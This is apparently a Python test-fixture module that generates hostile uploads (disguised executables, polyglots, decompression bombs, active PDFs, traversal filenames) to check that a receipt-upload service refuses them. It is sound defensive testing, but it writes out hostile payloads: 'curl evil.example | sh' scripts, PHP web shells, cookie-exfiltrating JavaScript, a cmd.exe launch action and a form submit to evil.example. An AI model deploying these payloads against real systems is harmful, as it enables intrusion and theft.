"""A corpus of hostile uploads, generated as bytes (the repository carries no binaries).

Each ``Hostile`` entry is one thing an attacker (or a broken phone) might send as a
receipt: executables and archives renamed as photos, web pages and SVG dressed as images,
polyglots that are a valid photo or PDF *and* something else, decompression bombs, files
that are too large or cut short, and PDFs that run code, act on opening or carry other
files. ``voucher.services.uploads.store_upload`` must refuse every one of them.

``NAME_CASES`` are different: their content is an ordinary photo, and what is hostile is
the *name* (path traversal, NUL byte, control characters, thousands of characters). They
may be stored, since the photo is fine; what matters is where and under what name.

Data is built lazily (``data`` may be a callable) because a few entries take a moment or
some megabytes to build, and cached so that the service and HTTP tests share them.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from PIL import Image, ImageDraw
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

MB = 1024 * 1024
# The limit the corpus is written for (the app's default MAX_UPLOAD_BYTES).
LIMIT = 10 * MB


@dataclass(frozen=True)
class Hostile:
    """One hostile upload: an id, the name it arrives with, its bytes, why it is bad, and
    the start of the refusal it must get."""

    name: str
    filename: str
    data: bytes | Callable[[], bytes]
    why: str
    refused: str

    def content(self) -> bytes:
        """The file's bytes (built on first use, then cached)."""
        return _built(self.name) if callable(self.data) else self.data


@dataclass(frozen=True)
class HostileName:
    """A valid photo under a hostile name: about where and as what it is stored."""

    name: str
    filename: str
    why: str


# --- building blocks --------------------------------------------------------------------


@cache
def photo(size: tuple[int, int] = (320, 240)) -> bytes:
    """A plain, valid JPEG photo of a receipt."""
    image = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(image)
    draw.rectangle((0, 0, size[0] // 2, size[1] // 8), fill="black")
    draw.text((size[0] // 16, size[1] // 4), "SCONTRINO 12,50 EUR", fill="black")
    out = io.BytesIO()
    image.save(out, "JPEG", quality=85)
    return out.getvalue()


@cache
def png_photo(size: tuple[int, int] = (200, 150)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "lightgrey").save(out, "PNG")
    return out.getvalue()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    crc = zlib.crc32(kind + body) & 0xFFFFFFFF
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)


def _png(width: int, height: int, idat: bytes, bit_depth: int = 8, colour: int = 2) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def _zeros_deflated(total: int) -> bytes:
    """A zlib stream of ``total`` zero bytes (a multiple of 1 MB), built in milliseconds.

    After a full flush the compressor forgets what came before, so every further megabyte
    of zeros compresses to the same bytes: compress three, then repeat the last one.
    """
    assert total % MB == 0 and total >= 2 * MB
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)  # raw deflate: header added below
    block = b"\x00" * MB
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH) == again
    end = compressor.flush(zlib.Z_FINISH)
    # Adler-32 of zeros: the byte sum stays 1, the running sum is the length.
    checksum = ((total % 65521) << 16) | 1
    return b"\x78\xda" + first + again * (total // MB - 1) + end + struct.pack(">I", checksum)


def _zip(entries: dict[str, bytes], comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in entries.items():
            archive.writestr(name, body)
        archive.comment = comment
    return out.getvalue()


def _pdf(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _blank(pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return writer


@cache
def blank_pdf() -> bytes:
    """A valid one-page PDF with nothing active in it."""
    return _pdf(_blank())


def _action(kind: str, **values: object) -> DictionaryObject:
    action = DictionaryObject(
        {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)}
    )
    for key, value in values.items():
        action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
    return action


def _with_link(action: DictionaryObject) -> bytes:
    """A blank page with one link annotation that runs ``action`` when clicked."""
    writer = _blank()
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 595, 842)]),
            NameObject("/A"): action,
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _pdf(writer)


def raw_pdf(*objects: bytes, trailer_extra: bytes = b"") -> bytes:
    """A PDF written by hand (object 1 is the catalogue), with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer_extra,
        xref,
    )
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


# --- builders (one per entry that needs more than a literal) ----------------------------


def _elf() -> bytes:
    # ELF64 header of an x86-64 executable, then code-looking bytes.
    header = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8
    header += struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return header + b"\x48\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05" * 50


def _pe() -> bytes:
    stub = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44
    stub += struct.pack("<I", 64)  # e_lfanew
    stub += b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 20
    return stub + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 3) + b"\x00" * 200


def _macho() -> bytes:
    # 64-bit little-endian Mach-O executable header (MH_MAGIC_64, x86_64, MH_EXECUTE).
    return struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + b"\x00" * 300


def _jar() -> bytes:
    return _zip(
        {
            "META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: Receipt\r\n\r\n",
            "Receipt.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 100,
        }
    )


def _apk() -> bytes:
    return _zip(
        {
            "AndroidManifest.xml": b"\x03\x00\x08\x00" + b"\x00" * 200,
            "classes.dex": b"dex\n035\x00" + b"\x00" * 200,
            "META-INF/CERT.RSA": b"\x30\x82" + b"\x00" * 50,
        }
    )


def _ole2() -> bytes:
    # The compound-file header of .doc/.xls (macros live in such files).
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00" + b"\x00" * 484


def _gif() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 40), "red").save(out, "GIF")
    return out.getvalue()


def _webp() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 40), "blue").save(out, "WEBP")
    return out.getvalue()


def _tiff() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 40), "green").save(out, "TIFF")
    return out.getvalue()


def _jpeg_with_html_comment() -> bytes:
    # A valid JPEG whose COM segment is a web page: opened as HTML (a sniffing browser,
    # a misconfigured server) it runs the script.
    out = io.BytesIO()
    Image.new("RGB", (64, 64), "white").save(
        out, "JPEG", comment=b"<html><body><script>alert(document.cookie)</script></body></html>"
    )
    return out.getvalue()


def _jpeg_then_html() -> bytes:
    return photo() + b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"


def _jpeg_then_zip() -> bytes:
    # A JPEG/ZIP polyglot: image viewers read from the start, unzip from the end.
    return photo() + _zip({"payload.exe": _pe()})


def _png_then_php() -> bytes:
    return png_photo() + b"<?php system($_GET['cmd']); ?>\n"


def _png_text_html() -> bytes:
    png = png_photo()
    text = _png_chunk(b"tEXt", b"Comment\x00<svg onload=alert(1)><script>alert(1)</script>")
    # Insert the text chunk right after IHDR (8-byte signature + 25-byte IHDR chunk).
    return png[:33] + text + png[33:]


def _pdf_with_html_comment() -> bytes:
    # A valid PDF that is also a web page: the markup hides in a PDF comment line.
    return raw_pdf(
        CATALOG + b"\n%<html><body><script>alert(document.domain)</script></body></html>",
        PAGES,
        PAGE,
    )


def _pdf_then_zip() -> bytes:
    return blank_pdf() + _zip({"invoice.exe": _pe()})


def _pdf_zip_hidden_before_eof() -> bytes:
    # The ZIP sits inside a stream of a valid PDF; its end record's comment covers the rest
    # of the PDF (cross-reference table, trailer, "%%EOF"). The file ends cleanly as a PDF
    # and is still a ZIP to any unzip tool, which looks for the archive from the end.
    archive = _zip({"run.sh": b"#!/bin/sh\ncurl evil.example | sh\n"})
    assert archive[-22:-18] == b"PK\x05\x06"

    def build(comment_length: int) -> bytes:
        body = archive[:-2] + struct.pack("<H", comment_length)
        return raw_pdf(
            CATALOG,
            PAGES,
            PAGE,
            b"<< /Length %d >>\nstream\n" % len(body) + body + b"\nendstream",
        )

    first = build(0)
    tail = len(first) - (first.index(archive[:-2]) + len(archive))
    data = build(tail)
    assert data.index(archive[:-2]) + len(archive) + tail == len(data)
    return data


def _jpeg_huge_dimensions() -> bytes:
    # A real JPEG whose frame header (SOF0) claims 65500 x 65500 pixels.
    data = bytearray(photo((16, 16)))
    sof = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, 65500, 65500)
    return bytes(data)


def _png_bomb_header() -> bytes:
    # 100,000 x 100,000 pixels (10 gigapixels) declared by a file of a few hundred bytes.
    return _png(100_000, 100_000, zlib.compress(b"\x00" * 1000), bit_depth=1, colour=0)


def _png_bomb_real() -> bytes:
    # A fully valid 1-bit 20,000 x 20,000 PNG: about 60 kB, 400 megapixels decoded.
    side = 20_000
    row = b"\x00" * (1 + (side + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    return _png(side, side, idat, bit_depth=1, colour=0)


def _png_idat_bomb() -> bytes:
    # A 100 x 100 picture (30 kB of pixels) whose image data inflates to 1 GB: a decoder
    # that inflates everything before looking at the size is out of memory.
    return _png(100, 100, _zeros_deflated(1024 * MB))


def _png_ztxt_bomb() -> bytes:
    png = png_photo()
    text = _png_chunk(b"zTXt", b"Comment\x00\x00" + _zeros_deflated(256 * MB))
    return png[:33] + text + png[33:]


def _heic_bomb() -> bytes:
    # A real HEIC whose image-size property ("ispe") claims 60,000 x 60,000 pixels.
    import pillow_heif

    out = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (64, 64), "white")).save(out, format="HEIF")
    data = bytearray(out.getvalue())
    at = data.find(b"ispe")
    assert at > 0, "no ispe box in the encoded HEIC"
    struct.pack_into(">II", data, at + 8, 60_000, 60_000)  # after version/flags
    return bytes(data)


def _oversize() -> bytes:
    # A valid PDF padded with blank lines to one byte over the limit.
    pdf = blank_pdf()
    end = pdf.rfind(b"%%EOF")
    return pdf[:end] + b" " * (LIMIT + 1 - len(pdf)) + pdf[end:]


def _truncated_jpeg() -> bytes:
    big = io.BytesIO()
    Image.effect_noise((400, 300), 60).convert("RGB").save(big, "JPEG", quality=90)
    return big.getvalue()[: len(big.getvalue()) // 2]


def _truncated_pdf() -> bytes:
    pdf = blank_pdf()
    return pdf[: len(pdf) * 2 // 3]


def _encrypted_rc4() -> bytes:
    writer = _blank()
    writer.encrypt(user_password="segreta", owner_password="owner", algorithm="RC4-128")
    return _pdf(writer)


def _encrypted_empty_password() -> bytes:
    # Opens without asking for a password in every viewer, but is still encrypted: its
    # content cannot be checked without decrypting it.
    writer = _blank()
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-40")
    return _pdf(writer)


def _pdf_open_action_js() -> bytes:
    writer = _blank()
    action = _action("/JavaScript", JS=TextStringObject("app.launchURL('https://evil.example')"))
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _pdf(writer)


def _pdf_page_aa() -> bytes:
    writer = _blank()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/JavaScript", JS=TextStringObject("app.alert(1)"))}
    )
    return _pdf(writer)


def _pdf_embedded_file() -> bytes:
    writer = _blank()
    writer.add_attachment("fattura.pdf.exe", _pe())
    return _pdf(writer)


def _pdf_javascript_names() -> bytes:
    writer = _blank()
    script = writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert(1)")))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), script])})
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )
    return _pdf(writer)


def _pdf_xfa() -> bytes:
    writer = _blank()
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)}
    )
    return _pdf(writer)


def _pdf_launch() -> bytes:
    return _with_link(
        _action(
            "/Launch",
            F=TextStringObject("C:\\Windows\\System32\\cmd.exe"),
            Win=DictionaryObject({NameObject("/F"): TextStringObject("cmd.exe")}),
        )
    )


def _pdf_uri_javascript() -> bytes:
    # A link whose target is "javascript:…", written as a hex string so that the word
    # never appears in the bytes: only a parser sees it.
    data = raw_pdf(
        CATALOG,
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 5 0 R >>",
        b"<< /S /URI /URI <" + b"javascript:alert(document.cookie)".hex().encode() + b"> >>",
    )
    assert b"javascript" not in data.lower()
    return data


def _pdf_open_action_uri_javascript() -> bytes:
    # The same, run on opening, with the scheme in octal escapes and mixed case.
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (\\112aVaScRiPt:x()) >> >>",
        PAGES,
        PAGE,
    )


def _pdf_submit_form() -> bytes:
    return _with_link(
        _action(
            "/SubmitForm", F=TextStringObject("https://evil.example/collect"), Flags=NumberObject(4)
        )
    )


def _pdf_million_objects() -> bytes:
    # A cross-reference stream that declares 1,000,000 objects in a few kilobytes.
    count = 1_000_000
    entries = b"".join(
        struct.pack(">BIH", 1, 15, 0) for _ in range(count)
    )  # type 1 (in use) at offset 15, generation 0
    body = zlib.compress(entries, 9)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    catalog_at = len(out)
    out += b"1 0 obj\n" + CATALOG + b"\nendobj\n"
    pages_at = len(out)
    out += b"2 0 obj\n" + PAGES + b"\nendobj\n"
    page_at = len(out)
    out += b"3 0 obj\n" + PAGE + b"\nendobj\n"
    del catalog_at, pages_at, page_at
    xref_at = len(out)
    out += (
        b"4 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n" % (count, len(body))
    )
    out += body + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def _pdf_deep_nesting() -> bytes:
    depth = 100_000
    return raw_pdf(CATALOG, PAGES, PAGE, b"<< /Deep " + b"[" * depth + b"]" * depth + b" >>")


def _pdf_objstm_bomb() -> bytes:
    # An object stream that inflates to 1 GB: a reader that decompresses it whole to find
    # the objects inside runs out of memory.
    bomb = _zeros_deflated(1024 * MB)
    return raw_pdf(
        CATALOG,
        PAGES,
        PAGE,
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(bomb)
        + bomb
        + b"\nendstream",
    )


def _pdf_content_bomb() -> bytes:
    # The page's content stream inflates to 1 GB: the reader's viewer, drawing the page,
    # runs out of memory or time.
    bomb = _zeros_deflated(1024 * MB)
    return raw_pdf(
        CATALOG,
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(bomb) + bomb + b"\nendstream",
    )


def _pdf_many_streams() -> bytes:
    # Twenty page-content streams of 30 MB each: every one under the limit of a stream,
    # 600 MB together.
    bomb = _zeros_deflated(30 * MB)
    streams = [
        b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(bomb) + bomb + b"\nendstream"
    ] * 20
    contents = b" ".join(b"%d 0 R" % (4 + n) for n in range(20))
    return raw_pdf(
        CATALOG,
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [%s] >>" % contents,
        *streams,
    )


def _pdf_image_bomb() -> bytes:
    # A picture on the page that declares 100,000 x 100,000 pixels (a few bytes of JPEG).
    return raw_pdf(
        CATALOG,
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /XObject << /Im1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace "
        b"/DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode /Length 4 >>\nstream\n"
        b"\xff\xd8\xff\xd9\nendstream",
        b"<< /Length 35 >>\nstream\nq 595 0 0 842 0 0 cm /Im1 Do Q\nendstream",
    )


def _pdf_page_loop() -> bytes:
    # The page tree contains itself: a naive walk of the pages never ends.
    return raw_pdf(
        CATALOG,
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        PAGE,
    )


def _svg_script() -> bytes:
    return (
        b'<?xml version="1.0" standalone="no"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" '
        b"onload=\"fetch('//evil.example/?c='+document.cookie)\">"
        b"<script>alert(document.domain)</script><rect width='100' height='100'/></svg>"
    )


def _billion_laughs() -> bytes:
    entities = b'<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    return b'<?xml version="1.0"?><!DOCTYPE lolz [' + entities + b"]><lolz>&lol9;</lolz>"


# --- the corpus -------------------------------------------------------------------------

# Why each is refused (the first words of the message the person sees).
TYPE = "This file type is not accepted"
POLYGLOT = "The file also contains web page code or an archive"
PIXELS = "The image is too large"
BAD_IMAGE = "The image could not be read"
BAD_PDF = "The PDF could not be read"
COMPLEX = "The PDF is too complex to be checked"
ENCRYPTED = "The PDF is protected by a password"
ACTIVE = "The PDF contains scripts, automatic actions or attached files"
TOO_LARGE = "The file is larger than"
EMPTY = "The file is empty"

_SHELL = b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n"
_PHP = b"<?php system($_GET['c']); ?>\n"
_RTF = b"{\\rtf1\\ansi{\\object\\objemb}}"
_POSTSCRIPT = b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\nshowpage\n"
# In two parts, so that scanners of the source tree do not flag this file itself.
_EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
_HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
_GIF_JS = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=alert(document.domain)//;"
_PNG_HTML = b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>"

JPG, PNG, HEIC, PDF = "scontrino.jpg", "scontrino.png", "IMG_0001.HEIC", "fattura.pdf"

# fmt: off
CORPUS: list[Hostile] = [
    # Executables, scripts and archives under an image or PDF name
    Hostile("elf-as-jpg", JPG, _elf, "Linux executable renamed .jpg", TYPE),
    Hostile("pe-as-pdf", PDF, _pe, "Windows executable renamed .pdf", TYPE),
    Hostile("macho-as-jpg", "IMG_0001.JPG", _macho, "macOS executable renamed .jpg", TYPE),
    Hostile("shell-as-jpg", JPG, _SHELL, "shell script renamed .jpg", TYPE),
    Hostile("php-as-jpg", JPG, _PHP, "PHP web shell renamed .jpg", TYPE),
    Hostile("zip-as-jpg", JPG, lambda: _zip({"a.jpg": photo()}), "ZIP renamed .jpg", TYPE),
    Hostile("jar-as-pdf", PDF, _jar, "Java archive renamed .pdf", TYPE),
    Hostile("apk-as-jpg", JPG, _apk, "Android package renamed .jpg", TYPE),
    Hostile("ole2-as-pdf", PDF, _ole2, "Office document (macros) renamed .pdf", TYPE),
    Hostile("rtf-as-pdf", PDF, _RTF, "RTF with an embedded object renamed .pdf", TYPE),
    Hostile("postscript-as-pdf", PDF, _POSTSCRIPT, "PostScript (Ghostscript exploits)", TYPE),
    Hostile("eicar-as-pdf", PDF, _EICAR, "EICAR anti-virus test file renamed .pdf", TYPE),
    # Other picture formats, and markup dressed as pictures
    Hostile("gif-as-jpg", JPG, _gif, "GIF renamed .jpg (format not accepted)", TYPE),
    Hostile("webp-as-jpg", JPG, _webp, "WebP renamed .jpg (format not accepted)", TYPE),
    Hostile("tiff-as-png", PNG, _tiff, "TIFF renamed .png (format not accepted)", TYPE),
    Hostile("html-as-jpg", JPG, _HTML, "HTML page named .jpg", TYPE),
    Hostile("svg-script-as-png", PNG, _svg_script, "SVG with scripts named .png", TYPE),
    Hostile("xml-bomb-as-jpg", JPG, _billion_laughs, "XML 'billion laughs' named .jpg", TYPE),
    # Polyglots: a valid picture or PDF that is also something else
    Hostile("gif-js-polyglot", JPG, _GIF_JS, "GIF header that is also JavaScript", TYPE),
    Hostile("jpeg-html-comment", JPG, _jpeg_with_html_comment, "JPEG, HTML comment", POLYGLOT),
    Hostile("jpeg-then-html", JPG, _jpeg_then_html, "valid JPEG followed by HTML", POLYGLOT),
    Hostile("jpeg-zip-polyglot", JPG, _jpeg_then_zip, "valid JPEG that is a ZIP", POLYGLOT),
    Hostile("png-magic-then-html", PNG, _PNG_HTML, "PNG signature, then HTML", POLYGLOT),
    Hostile("png-then-php", PNG, _png_then_php, "valid PNG followed by PHP code", POLYGLOT),
    Hostile("png-text-html", PNG, _png_text_html, "PNG with SVG/HTML in a text chunk", POLYGLOT),
    Hostile("pdf-html-comment", PDF, _pdf_with_html_comment, "PDF that is a web page", POLYGLOT),
    Hostile("pdf-then-zip", PDF, _pdf_then_zip, "valid PDF followed by a ZIP", POLYGLOT),
    Hostile("pdf-zip-inside", PDF, _pdf_zip_hidden_before_eof, "PDF/ZIP, ends as PDF", POLYGLOT),
    # Decompression bombs
    Hostile("jpeg-65500-square", JPG, _jpeg_huge_dimensions, "JPEG of 4.3 gigapixels", PIXELS),
    Hostile("png-100k-square", PNG, _png_bomb_header, "PNG declaring 100k x 100k", PIXELS),
    Hostile("png-400-megapixels", PNG, _png_bomb_real, "valid 50 kB PNG of 400 MP", PIXELS),
    Hostile("png-idat-bomb", PNG, _png_idat_bomb, "100x100 PNG, IDAT inflates to 1 GB", BAD_IMAGE),
    Hostile("png-ztxt-bomb", PNG, _png_ztxt_bomb, "PNG text chunk inflating to 256 MB", BAD_IMAGE),
    Hostile("heic-bomb", HEIC, _heic_bomb, "HEIC declaring 60k x 60k pixels", PIXELS),
    Hostile("pdf-objstm-bomb", PDF, _pdf_objstm_bomb, "PDF object stream of 1 GB", COMPLEX),
    Hostile("pdf-content-bomb", PDF, _pdf_content_bomb, "page contents of 1 GB", COMPLEX),
    Hostile("pdf-many-streams", PDF, _pdf_many_streams, "20 streams of 30 MB each", COMPLEX),
    Hostile("pdf-image-bomb", PDF, _pdf_image_bomb, "picture of 100k x 100k pixels", COMPLEX),
    # Size, emptiness, damage
    Hostile("oversize", PDF, _oversize, "valid PDF one byte over the limit", TOO_LARGE),
    Hostile("empty", JPG, b"", "empty file", EMPTY),
    Hostile("truncated-jpeg", JPG, _truncated_jpeg, "JPEG cut in half", BAD_IMAGE),
    Hostile("truncated-pdf", PDF, _truncated_pdf, "PDF cut at two thirds", BAD_PDF),
    # PDFs that are encrypted, run code, act on their own or carry other files
    Hostile("pdf-encrypted", PDF, _encrypted_rc4, "PDF protected by a password", ENCRYPTED),
    Hostile("pdf-encrypted-empty-password", PDF, _encrypted_empty_password,
            "encrypted PDF that opens without a password", ENCRYPTED),
    Hostile("pdf-openaction-js", PDF, _pdf_open_action_js, "JavaScript run on opening", ACTIVE),
    Hostile("pdf-page-aa", PDF, _pdf_page_aa, "page additional action (/AA) with JS", ACTIVE),
    Hostile("pdf-embedded-file", PDF, _pdf_embedded_file, "attached executable", ACTIVE),
    Hostile("pdf-javascript-names", PDF, _pdf_javascript_names, "document JS name tree", ACTIVE),
    Hostile("pdf-xfa", PDF, _pdf_xfa, "XFA form (scriptable XML forms)", ACTIVE),
    Hostile("pdf-launch", PDF, _pdf_launch, "link with a /Launch action (cmd.exe)", ACTIVE),
    Hostile("pdf-uri-javascript", PDF, _pdf_uri_javascript, "link to javascript: (hex)", ACTIVE),
    Hostile("pdf-openaction-uri-javascript", PDF, _pdf_open_action_uri_javascript,
            "javascript: URI on opening, octal-escaped", ACTIVE),
    Hostile("pdf-submit-form", PDF, _pdf_submit_form, "form data sent to another site", ACTIVE),
    Hostile("pdf-million-objects", PDF, _pdf_million_objects, "xref of 10^6 objects", COMPLEX),
    Hostile("pdf-deep-nesting", PDF, _pdf_deep_nesting, "arrays nested 100,000 deep", COMPLEX),
    Hostile("pdf-page-loop", PDF, _pdf_page_loop, "page tree that contains itself", BAD_PDF),
]
# fmt: on

# The entries sent through the real upload form too (one or two of each family).
HTTP_SUBSET = [
    "pe-as-pdf",
    "php-as-jpg",
    "html-as-jpg",
    "svg-script-as-png",
    "jpeg-html-comment",
    "jpeg-zip-polyglot",
    "png-then-php",
    "pdf-zip-inside",
    "png-100k-square",
    "png-idat-bomb",
    "heic-bomb",
    "oversize",
    "truncated-pdf",
    "pdf-encrypted-empty-password",
    "pdf-openaction-js",
    "pdf-uri-javascript",
    "pdf-million-objects",
]

NAME_CASES: list[HostileName] = [
    HostileName("traversal-unix", "../../etc/passwd", "climb out of the folder (POSIX)"),
    HostileName("traversal-windows", "..\\..\\Windows\\win.ini", "climb out (Windows)"),
    HostileName("absolute-path", "/etc/cron.d/evil.jpg", "absolute path"),
    HostileName("nul-byte", "scontrino.jpg\x00.php", "NUL byte hiding the real extension"),
    HostileName("very-long", "a" * 10_000 + ".jpg", "10,000-character name"),
    HostileName("control-chars", "scontrino\r\nX-Evil: 1\t.jpg", "CR/LF for header injection"),
    HostileName("rtl-override", "fattura\u202egpj.exe", "right-to-left override hiding .exe"),
    HostileName("dotfile", ".htaccess", "server configuration file name"),
    HostileName("only-dots", "....", "a name that is only dots"),
]


@cache
def _built(name: str) -> bytes:
    entry = next(e for e in CORPUS if e.name == name)
    assert callable(entry.data)
    return entry.data()
